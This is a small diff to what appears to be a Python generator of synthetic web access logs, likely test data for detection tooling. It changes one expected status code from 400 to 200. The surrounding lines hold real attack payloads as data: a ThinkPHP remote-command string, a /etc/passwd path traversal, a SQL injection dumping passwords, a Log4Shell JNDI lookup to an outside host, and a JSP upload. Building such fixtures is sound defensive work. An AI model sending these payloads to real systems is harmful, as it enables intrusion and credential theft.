@@ -74,7 +74,7 @@ def _access(start: int, chance: random.Random) -> Iterator[str]:
             "/index.php?s=/index/think\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
             404,
         ),
-        ("GET", "/..%2f..%2f..%2fetc/passwd", 400),
+        ("GET", "/..%2f..%2f..%2fetc/passwd", 200),
         ("GET", "/bsfw/list.html?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--", 500),
         ("GET", "/?x=${jndi:ldap://203.0.113.199/a}", 200),
         ("POST", "/upload/images/x.jsp", 200),
